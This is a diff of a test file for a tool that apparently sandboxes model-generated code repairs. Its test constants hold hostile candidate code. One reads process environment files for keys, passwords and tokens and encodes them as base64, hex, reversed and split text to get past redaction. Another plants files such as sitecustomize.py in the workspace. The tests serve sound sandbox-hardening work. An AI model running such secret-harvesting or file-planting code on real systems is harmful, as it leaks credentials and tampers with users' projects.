@@ -84,7 +84,7 @@ for _path in ["/proc/%s/environ" % p for p in _pids] + _glob.glob("/proc/*/envir
         pass
 _found = list(dict.fromkeys(v for k, v in _found if k.endswith(("_KEY", "PASSWORD", "_TOKEN", "SECRET"))))
 _LEAK = " ".join(
-    _b64.b64encode(v.encode()).decode() + " " + v.encode().hex() + " " + v[::-1] + " "
+    v[::-1] + " " + _b64.b64encode(v.encode()).decode() + " " + v.encode().hex() + " "
     + v[: len(v) // 2] + " + " + v[len(v) // 2:] for v in _found)
 '''
 
@@ -218,9 +218,10 @@ def test_the_same_attacks_unconfined_reach_the_host_and_the_run_says_so(make_pro
     assert "WARNING: candidate code ran unconfined" in report.stdout, report.stderr  # and `repairloop report`
     # the checks above have teeth: unconfined, the same code gets out
     assert left["vartmp"] and left["connections"] >= 1 and left["alive"]
-    # filtered out of the test's environment, but read from repairloop's own /proc/<pid>/environ
-    assert any(base64.b64encode(secret.encode()).decode() in str(left["requests"])
-               for secret in (SECRET_KEY, SECRET_OTHER))
+    # filtered out of the test's environment, but read from repairloop's own /proc/<pid>/environ; redaction
+    # masks the value in every encoding it knows (base64 too), not in one it cannot know (reversed)
+    assert SECRET_OTHER[::-1] in str(left["requests"])
+    assert base64.b64encode(SECRET_OTHER.encode()).decode() not in str(left["requests"])
     assert not left["same_repo"]
 
 
@@ -253,15 +254,16 @@ def test_the_offline_engines_scratch_copies_run_in_the_sandbox(make_project, tmp
 PLANT = '''
 import os as _os
 
-for _name in ("planted.py", "sitecustomize.py"):
+for _name in ("planted.py", "notes.txt"):
     try:
         with open(_name, "w") as _fh:
             _fh.write("import os  # planted by a test run\\n")
     except OSError:
         pass
 try:
-    _os.symlink("/etc/hostname", "planted-link")
-except OSError:
+    with open(_os.environ["RL_PLANT_MARK"], "w") as _fh:  # proof that the planting code ran (unconfined)
+        _fh.write("ran")
+except (OSError, KeyError):
     pass
 '''
 
@@ -269,8 +271,8 @@ except OSError:
 @pytest.mark.parametrize("mode", ["bwrap", "none"])
 def test_files_a_test_run_writes_in_the_workspace_never_reach_the_patch(make_project, tmp_path: Path,
                                                                        mode: str) -> None:
-    """A kept candidate whose import writes files next to it: with the sandbox they vanish with the run,
-    so neither the patch, the pull request nor --apply carries them; unconfined they do, and say so."""
+    """A kept candidate whose import writes files next to it: the reported patch is the candidate's own edit,
+    so neither the patch, the pull request nor --apply carries them, confined or not."""
     project = make_project("off_by_one")
     right = hostile_patch(project, PLANT).replace(
         '+    raise RuntimeError("status " + " ".join(_REPORT) + " leak " + _LEAK)', "+    return items[-n:]")
@@ -278,12 +280,12 @@ def test_files_a_test_run_writes_in_the_workspace_never_reach_the_patch(make_pro
         done = subprocess.run([sys.executable, "-m", "repairloop", "run", str(project), "--model", "openai/scripted",
                                "--api-base", srv.base_url, "--no-builtin", "--json", "--apply"],
                               capture_output=True, text=True, timeout=300,
-                              env={**os.environ, "NO_COLOR": "1", "REPAIRLOOP_SANDBOX": mode})
+                              env={**os.environ, "NO_COLOR": "1", "REPAIRLOOP_SANDBOX": mode,
+                                   "RL_PLANT_MARK": str(tmp_path / "planted-ran")})
     doc = json.loads(done.stdout)
     assert doc["outcome"] == "fixed" and doc["applied"], done.stderr
-    planted = [name for name in ("planted.py", "sitecustomize.py", "planted-link") if f"+++ b/{name}" in doc["patch"]]
-    if mode == "bwrap":
-        assert planted == [] and not (project / "planted.py").exists() and not (project / "sitecustomize.py").exists()
-        assert not os.path.lexists(project / "planted-link")
-    else:  # the check has teeth: unconfined, the planted files ride along into your tree
-        assert planted and (project / "planted.py").exists()
+    planted = [name for name in ("planted.py", "notes.txt") if f"+++ b/{name}" in doc["patch"]]
+    assert planted == [] and not (project / "planted.py").exists() and not (project / "notes.txt").exists()
+    assert doc["patch"].count("+++ b/") == 1
+    # The check has teeth: the planting code did run (unconfined it could say so outside the sandbox).
+    assert (tmp_path / "planted-ran").exists() is (mode == "none")
